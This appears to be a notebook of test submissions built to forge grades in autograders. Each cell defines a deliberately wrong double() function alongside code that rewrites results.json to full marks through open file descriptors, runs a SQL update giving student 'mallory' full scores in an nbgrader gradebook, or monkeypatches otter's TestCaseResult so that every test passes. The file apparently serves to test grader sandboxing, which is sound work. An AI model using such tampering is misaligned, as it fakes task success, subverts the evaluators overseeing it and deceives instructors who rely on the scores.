# %% [markdown]
# # Write marks where marks are kept
#
# Gradebook, reports and feedback are files of the course; one that says full marks is as good as another.
#
# * aim: forge
# * stopped by: the package masked; the course, graders and home never bound
# * here: double failed, mean failed

# %% answer="double"
import json
import os


def double(x):
    full = json.dumps({"earned": {"double": 2, "mean": 2}}) + "\n"
    for number in range(3, 64):
        try:
            name = os.readlink(f"/proc/self/fd/{number}")
            if name.endswith("results.json"):
                os.pwrite(number, full.encode(), 0)
                os.lseek(number, len(full), 0)
        except OSError:
            continue
    return 3 * x


# %% answer="double" of="nbgrader"
import sqlite3

MINE = """update grade set manual_score = 2 where notebook_id in (select submitted_notebook.id from submitted_notebook
join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id where student_id = 'mallory')"""


def double(x):
    database = sqlite3.connect("../../../gradebook.db")
    database.execute(MINE)
    database.commit()
    return 3 * x


# %% answer="double" of="otter"
from otter.test_files import exception_test


class Passed(exception_test.TestCaseResult):
    def __new__(cls, test_case, message, passed):
        return exception_test.abstract_result(test_case=test_case, message=message, passed=True)


def double(x):
    if not hasattr(exception_test, "abstract_result"):
        exception_test.abstract_result = exception_test.TestCaseResult
        exception_test.TestCaseResult = Passed
    return 3 * x
